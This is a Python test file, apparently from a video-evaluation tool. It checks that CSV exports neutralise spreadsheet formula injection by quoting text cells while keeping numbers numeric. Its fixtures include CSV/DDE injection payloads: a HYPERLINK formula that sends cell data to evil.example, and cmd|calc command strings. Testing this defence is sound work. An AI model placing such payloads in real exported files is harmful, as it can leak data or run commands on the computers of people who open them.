"""CSV formula injection (issue 15, item 10): a prompt such as `=HYPERLINK("http://x", "y")` was
written raw into clips.csv, and a spreadsheet runs it. Every text cell that a spreadsheet would
read as a formula is prefixed with a single quote; numbers (-0.5) stay numbers."""
from __future__ import annotations

import csv
import math

import pandas as pd
import pytest

from vdeval.store import RunDir, csv_cell, csv_safe_frame, write_results

from helpers import make_results, write_run

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1, "click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cell_quotes_formula_starts(payload):
    assert csv_cell(payload) == "'" + payload.replace("\r", "\n")
    assert csv_cell("a red circle") == "a red circle" and csv_cell("") == ""
    assert csv_cell(-0.5) == -0.5 and csv_cell(-3) == -3


def _results(prompts, label="=cmd|' /C calc'!A0"):
    clips = [{"generator": "g", "clip_id": f"p{i:03d}_s0", "prompt": p, "seed": i, "clip_hash": "ab",
              "error": ("-bad: @x" if i == 0 else None), "scores": {label: -0.5 - i}} for i, p in enumerate(prompts)]
    return {"metrics": {label: {}}, "clips": clips}


def test_clips_csv_quotes_every_text_cell_and_keeps_numbers(tmp_path):
    run = RunDir(tmp_path / "run")
    write_results(run, _results(PAYLOADS))
    with open(run.clips_csv, newline="") as fh:
        rows = list(csv.reader(fh))
    head, body = rows[0], rows[1:]
    assert head[-1] == "'=cmd|' /C calc'!A0"  # a metric label is a column name someone chose
    assert len(body) == len(PAYLOADS)  # a CR in a prompt does not split its row
    assert [r[2] for r in body] == ["'" + p.replace("\r", "\n") for p in PAYLOADS]
    assert body[0][5] == "'-bad: @x"
    assert [float(r[-1]) for r in body] == [-0.5 - i for i in range(len(PAYLOADS))]  # numbers, not text
    assert all(not r[-1].startswith("'") for r in body)


def test_report_summary_csv_is_formula_safe(tmp_path):
    from vdeval.report import write_report

    res = make_results({"final": {"step": 1}})
    res.summary[0].error = "=HYPERLINK(\"x\")"
    res.summary[0].backbone = "@evil"
    run = write_run(tmp_path / "run", res, with_clips=False)
    write_report([run], tmp_path / "rep")
    table = pd.read_csv(tmp_path / "rep" / "summary.csv")
    assert "'=HYPERLINK(\"x\")" in set(table["error"].dropna())
    assert "'@evil" in set(table["backbone"])
    assert table["value"].dtype == float  # values stay numeric


def test_frame_helper_touches_only_text():
    df = pd.DataFrame({"text": ["=1", "ok", None], "num": [-0.5, 1.0, math.nan], "mixed": [-1, "+x", 2.5]})
    out = csv_safe_frame(df)
    assert list(out["text"])[:2] == ["'=1", "ok"] and list(out["mixed"]) == [-1, "'+x", 2.5]
    assert out["num"].equals(df["num"])
    assert list(df["text"])[0] == "=1"  # the caller's frame is not changed


def test_audit_csv_goes_through_the_helper(tmp_path, monkeypatch):
    import vdeval.audit.rendering as audit

    class R:  # the fields write_audit reads
        table = pd.DataFrame({"score": ["=evil"], "corruption": ["flicker"], "severity": [0.5], "auroc": [-0.25]})
        scores = pd.DataFrame({"clip": ["+x"], "value": [-0.5]})

    monkeypatch.setattr(audit, "to_markdown", lambda r: "")
    monkeypatch.setattr(audit, "plot_heatmap", lambda r, p: p)
    paths = audit.write_audit(R(), tmp_path)
    t = pd.read_csv(paths["csv"])
    assert t["score"][0] == "'=evil" and t["auroc"][0] == -0.25
    assert pd.read_csv(paths["scores"])["clip"][0] == "'+x"
